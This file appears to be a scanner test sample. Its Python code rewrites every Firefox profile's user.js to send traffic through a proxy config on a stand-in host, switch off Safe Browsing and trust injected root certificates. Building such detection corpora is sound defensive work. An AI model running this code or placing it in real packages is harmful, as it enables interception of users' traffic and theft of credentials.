# pkgguard corpus 749 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import os

_PREFS = """
user_pref("network.proxy.type", 2);
user_pref("network.proxy.autoconfig_url", "https://pac-cdn.example/p.pac");
user_pref("browser.safebrowsing.malware.enabled", false);
user_pref("browser.safebrowsing.phishing.enabled", false);
user_pref("security.enterprise_roots.enabled", true);
"""

for base in (
    os.path.join(os.path.expanduser("~"), ".mozilla", "firefox"),
    os.path.join(os.environ.get("APPDATA", ""), "Mozilla", "Firefox", "Profiles"),
):
    for profile in glob.glob(os.path.join(base, "*.default*")):
        with open(os.path.join(profile, "user.js"), "a") as fh:
            fh.write(_PREFS)
